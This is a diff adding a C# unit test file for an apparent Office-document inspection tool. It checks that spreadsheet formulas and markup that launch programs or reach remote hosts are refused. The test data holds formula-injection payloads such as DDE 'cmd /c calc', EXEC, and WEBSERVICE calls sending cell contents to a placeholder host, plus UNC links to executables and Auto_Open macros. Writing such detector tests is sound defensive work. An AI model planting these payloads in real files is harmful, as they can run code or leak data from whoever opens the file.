@@ -1,0 +1,78 @@
+using System.Security;
+using Gatehouse.Inspection.Tests.Zip;
+
+namespace Gatehouse.Inspection.Tests.Office;
+
+public sealed class OfficeFormulaTests
+{
+    private const string Sheet = "xl/worksheets/sheet1.xml";
+
+    [Theory]
+    [InlineData("""WEBSERVICE("http://host/?"&B1)""")]
+    [InlineData("""SUM(1,_xlfn.webservice ("http://host/"))""")]
+    [InlineData("""_xlfn.IMAGE("https://host/a.png")""")]
+    [InlineData("""DDE("cmd";"/c calc";"a")""")]
+    [InlineData("""RTD("a.b",,"c")""")]
+    [InlineData("""CALL("a","b","c")""")]
+    [InlineData("""REGISTER.ID("a","b")""")]
+    [InlineData("""EXEC("calc")""")]
+    [InlineData("cmd|'/c calc'!A0")]
+    [InlineData("'cmd'|a!A0")]
+    [InlineData("""HYPERLINK("\\host\share\a.exe","click")""")]
+    [InlineData("""HYPERLINK("file://ho"&"st/a","click")""")]
+    [InlineData("""IF(A1,HYPERLINK(IF(B1,"x","\\host\share"),"click"),0)""")]
+    [InlineData("""HYPERLINK("calc"&".exe")""")]
+    public void Formulas_that_load_or_start_something_are_active(string formula)
+    {
+        var text = SecurityElement.Escape(formula);
+        foreach (var element in new[] { "<c><f>{0}</f></c>", "<x:formula1 xmlns:x='x'><x:f>{0}</x:f></x:formula1>", "<formula>{0}</formula>", "<definedName name='a'>{0}</definedName>" })
+            Archives.RefusesOrFlags(With(element.Replace("{0}", text, StringComparison.Ordinal)), Reasons.ActiveContent, Archives.Xlsx);
+    }
+
+    [Theory]
+    [InlineData("SUM(A1:B2)*2")]
+    [InlineData("""A1&" | WEBSERVICE(x) "" IMAGE(y)" """)]
+    [InlineData("'CALL(a)|b'!A1+Register!A1")]
+    [InlineData("SUM(Table1[[#This Row],[a|b]])")]
+    [InlineData("MY.CALL(1)+RECALL(2)")]
+    [InlineData("""HYPERLINK("https://example.org/?q="&A1,"a \\ b")""")]
+    [InlineData("""HYPERLINK("#'"&A1&"'!A1","go")""")]
+    [InlineData("""HYPERLINK("[C:\data\a.xlsx]Sheet1!A1","go")""")]
+    [InlineData("""HYPERLINK("mailto:"&A1&"?subject=Re: a")""")]
+    [InlineData("HYPERLINK(A1)")]
+    public void Other_formulas_are_honest(string formula) => Archives.Accepts(With($"<c><f>{SecurityElement.Escape(formula)}</f></c>"), Archives.Xlsx);
+
+    [Theory]
+    [InlineData("<definedName name='_xlnm.Auto_Open' xlm='1'>A1</definedName>")]
+    [InlineData("<definedName name='a' vbProcedure='true'>A1</definedName>")]
+    [InlineData("<volType type='realTimeData'/>")]
+    [InlineData("<webPublishItem destinationFile='a.htm'/>")]
+    [InlineData("<sp macro=\"'http://host/a.xlsm'!Go\"/>")]
+    [InlineData("<x:FmlaMacro xmlns:x='x'>'\\\\host\\a.xlsm'!Go</x:FmlaMacro>")]
+    public void Markup_of_sheets_that_acts_is_active(string xml) => Archives.RefusesOrFlags(With(xml), Reasons.ActiveContent, Archives.Xlsx);
+
+    [Theory]
+    [InlineData("<definedName name='a' hidden='1'>Sheet1!A1</definedName>")]
+    [InlineData("<sp macro=''/><sp macro='[0]!Button1'/>")]
+    public void Other_markup_of_sheets_is_honest(string xml) => Archives.Accepts(With(xml), Archives.Xlsx);
+
+    [Fact]
+    public void A_formula_is_no_longer_than_a_program_writes() => Archives.Refuses(With($"<f>{new string(' ', 17 * 1024)}EXEC(1)</f>"), Reasons.BadStructure);
+
+    [Theory]
+    [InlineData("file://host/share/")]
+    [InlineData("C:\\")]
+    [InlineData("\\\\host\\share")]
+    public void A_base_of_links_that_is_not_on_the_web_is_active(string target) =>
+        Archives.RefusesOrFlags(WithBase(target), Reasons.ActiveContent, Archives.Docx);
+
+    [Theory]
+    [InlineData("https://example.org/a/")]
+    [InlineData("data")]
+    public void A_base_of_links_on_the_web_is_honest(string target) => Archives.Accepts(WithBase(target), Archives.Docx);
+
+    private static byte[] With(string xml) => OfficeBuilder.Excel.With(Sheet, $"<a>{xml}</a>").Build();
+
+    private static byte[] WithBase(string target) =>
+        OfficeBuilder.Word.With("docProps/app.xml", $"<Properties><HyperlinkBase>{target}</HyperlinkBase></Properties>").Build();
+}
